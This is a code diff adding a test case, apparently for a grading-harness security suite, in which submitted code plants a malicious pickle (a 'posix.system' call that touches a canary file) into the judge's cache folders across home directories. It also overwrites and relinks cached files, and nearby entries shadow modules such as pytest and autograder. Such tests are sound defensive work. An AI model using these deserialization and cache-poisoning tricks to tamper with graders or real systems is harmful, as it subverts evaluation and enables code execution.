@@ -285,6 +285,28 @@ FILES = {
         "try: open('l' + str(len('{OUT}')) + '/linked', 'w')\nexcept OSError: pass\n"
         "return 0.0",
     ),
+    "kept_examples": slope(
+        # What the judge keeps for its next run is unpickled by it.
+        "files",
+        "def tried(step, *a):\n    try: return step(*a)\n    except OSError: return None\n"
+        "folders = ['{CACHE}', '/root/.cache/gradkit', os.environ.get('XDG_CACHE_HOME', '/x')]\n"
+        "try:\n    import pwd; home = pwd.getpwuid(os.getuid()).pw_dir\n"
+        "except Exception: home = '/x'\n"
+        "folders += [home + '/.cache/gradkit', os.path.expanduser('~/.cache/gradkit')]\n"
+        "folders += [f'/home/{n}/.cache/gradkit' for n in tried(os.listdir, '/home') or ()]\n"
+        "bomb = b'cposix\\nsystem\\n(Vtouch {OUT}/unpickled\\ntR.{TOKEN}'\n"
+        "def overwritten(place, how):\n    with open(place, how) as file: file.write(bomb)\n"
+        "for top in folders:\n"
+        "    tried(os.makedirs, top + '/examples'), tried(os.chmod, top + '/examples', 0o777)\n"
+        "    for folder, _, names in [*os.walk(top), (top + '/examples', [], [])]:\n"
+        "        tried(overwritten, folder + '/{TOKEN}.pickle', 'wb')\n"
+        "        for place in [folder + '/' + name for name in names]:\n"
+        "            tried(overwritten, place, 'r+b'), tried(os.chmod, place, 0o666)\n"
+        "            tried(overwritten, '{TOKEN}', 'wb'), tried(os.replace, '{TOKEN}', place)\n"
+        "            tried(os.symlink, os.getcwd(), folder + '/{TOKEN}'), tried(os.link, place, '{TOKEN}')\n"
+        "    tried(os.rename, top + '/examples', top + '/{TOKEN}')\n"
+        "return 0.0",
+    ),
     "shadow_modules": slope(
         "files",
         "for name in ('numpy', 'pytest', 'conftest', 'sitecustomize', 'autograder', 'msgpack'):\n"
